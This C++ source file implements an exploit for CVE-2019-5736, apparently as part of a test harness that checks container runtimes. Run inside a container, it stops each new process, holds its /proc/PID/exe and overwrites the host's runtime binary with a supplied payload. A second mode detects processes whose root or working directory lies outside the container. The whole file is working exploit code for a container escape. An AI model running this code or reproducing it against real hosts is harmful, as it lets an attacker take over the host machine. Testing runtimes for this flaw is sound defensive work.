// exe_grabber: the CVE-2019-5736 attacker, run inside a container (static, so any image can
// hold it). It watches /proc for processes that appear in its pid namespace, stops each one
// at once (SIGSTOP, as root of the container may), and
//   exe:  opens /proc/PID/exe with O_PATH and keeps it; whenever a kept file is no longer
//         being executed it reopens it for writing through /proc/self/fd and writes PAYLOAD
//         over its start (the classic overwrite of the runtime binary);
//   root: opens /proc/PID/root and /proc/PID/cwd and counts those that are not inside its
//         own root (the host's "/" of a process that joined the pid namespace too early).
// usage: exe_grabber exe|root DIR SECONDS
//   DIR/payload  (exe) the bytes to write;  DIR/stop  ends the watch;  DIR/ready  written
//   once watching;  DIR/result  the counts and what was reached, written at the end.
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <set>
#include <string>
#include <vector>

namespace {

struct Held {
    int fd;
    std::string link;
    bool done = false;
};

double now() {
    timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
}

std::string read_link(const std::string& path) {
    char buf[4096];
    ssize_t n = readlink(path.c_str(), buf, sizeof buf - 1);
    return n < 0 ? std::string("?") : std::string(buf, static_cast<size_t>(n));
}

bool same_file(const struct stat& a, const struct stat& b) {
    return a.st_dev == b.st_dev && a.st_ino == b.st_ino;
}

std::string read_file(const std::string& path) {
    std::string out;
    FILE* f = fopen(path.c_str(), "rb");
    if (!f) return out;
    char buf[4096];
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, f)) > 0) out.append(buf, n);
    fclose(f);
    return out;
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: exe_grabber exe|root DIR SECONDS\n");
        return 2;
    }
    const bool exe_mode = std::strcmp(argv[1], "exe") == 0;
    const std::string dir = argv[2];
    const double deadline = now() + std::atof(argv[3]);
    const std::string payload = read_file(dir + "/payload");
    struct stat self_st, root_st, busybox_st = {};
    stat("/proc/self/exe", &self_st);
    stat("/", &root_st);
    stat("/bin/busybox", &busybox_st);
    const pid_t me = getpid();

    std::set<long> seen, done;
    std::set<std::string> reported;
    std::vector<Held> held;
    std::vector<std::string> notes;
    int grabbed = 0, overwrote = 0, sealed = 0, escapes = 0, watched = 0;
    if (FILE* f = fopen((dir + "/ready").c_str(), "w")) fclose(f);

    auto try_writes = [&] {
        for (auto& h : held) {
            if (h.done) continue;
            std::string path = "/proc/self/fd/" + std::to_string(h.fd);
            int w = open(path.c_str(), O_WRONLY | O_CLOEXEC);
            if (w < 0) {
                if (errno == ETXTBSY) continue;  // still running: retry later
                notes.push_back("open for writing " + h.link + ": " + std::strerror(errno));
                h.done = true;
                continue;
            }
            ssize_t n = pwrite(w, payload.data(), payload.size(), 0);
            if (n == static_cast<ssize_t>(payload.size())) {
                ++overwrote;
                notes.push_back("OVERWROTE " + h.link);
            } else {
                ++sealed;
                notes.push_back("write " + h.link + ": " + std::strerror(errno));
            }
            close(w);
            h.done = true;
        }
    };

    auto check_root = [&](const std::string& p) {
        struct stat st;
        int fd = open((p + "/root").c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd >= 0) {
            if (fstat(fd, &st) == 0 && !same_file(st, root_st) && !reported.count(p + "/root")) {
                ++escapes;
                reported.insert(p + "/root");
                notes.push_back("ROOT OUTSIDE " + p + " -> " + read_link(p + "/root"));
            }
            close(fd);
        }
        // A cwd outside our root: walking ".." from it never passes our "/".
        int up = open((p + "/cwd").c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
        for (int i = 0; up >= 0 && i < 64; ++i) {
            struct stat a, b;
            fstat(up, &a);
            int next = openat(up, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (next < 0 || fstat(next, &b) < 0 || same_file(a, b)) {
                if (!same_file(a, root_st) && !reported.count(p + "/cwd")) {
                    ++escapes;
                    reported.insert(p + "/cwd");
                    notes.push_back("CWD OUTSIDE " + p + " -> " + read_link(p + "/cwd"));
                }
                if (next >= 0) close(next);
                break;
            }
            close(up);
            up = next;
        }
        if (up >= 0) close(up);
    };

    double stop_at = 0;
    while (now() < deadline) {
        if (stop_at == 0 && access((dir + "/stop").c_str(), F_OK) == 0) stop_at = now() + 1.0;
        if (stop_at != 0 && now() > stop_at) break;
        DIR* d = opendir("/proc");
        if (!d) break;
        while (dirent* e = readdir(d)) {
            char* end;
            long pid = std::strtol(e->d_name, &end, 10);
            if (*end || pid <= 0 || pid == me || done.count(pid)) continue;
            // Every scan looks again at a process not settled yet: what it runs changes at
            // its execve, and that is the moment to catch.
            if (seen.insert(pid).second) ++watched;
            kill(static_cast<pid_t>(pid), SIGSTOP);
            std::string p = "/proc/" + std::to_string(pid);
            if (exe_mode) {
                int fd = open((p + "/exe").c_str(), O_PATH | O_CLOEXEC);
                struct stat st;
                if (fd >= 0 && fstat(fd, &st) == 0 && !same_file(st, self_st) &&
                    !same_file(st, busybox_st)) {
                    ++grabbed;
                    held.push_back({fd, read_link(p + "/exe")});
                    done.insert(pid);
                } else if (fd >= 0) {
                    close(fd);  // one of the image's programs: look again after its next execve
                }
            } else {
                check_root(p);
            }
            kill(static_cast<pid_t>(pid), SIGCONT);
        }
        closedir(d);
        if (exe_mode) try_writes();
        usleep(200);
    }
    if (exe_mode) try_writes();
    std::string out = "watched " + std::to_string(watched) + "\ngrabbed " +
                      std::to_string(grabbed) + "\noverwrote " + std::to_string(overwrote) +
                      "\nsealed " + std::to_string(sealed) + "\nescapes " +
                      std::to_string(escapes) + "\n";
    for (const auto& n : notes) out += n + "\n";
    FILE* f = fopen((dir + "/result.tmp").c_str(), "w");
    if (!f) return 1;
    fwrite(out.data(), 1, out.size(), f);
    fclose(f);
    rename((dir + "/result.tmp").c_str(), (dir + "/result").c_str());
    return 0;
}
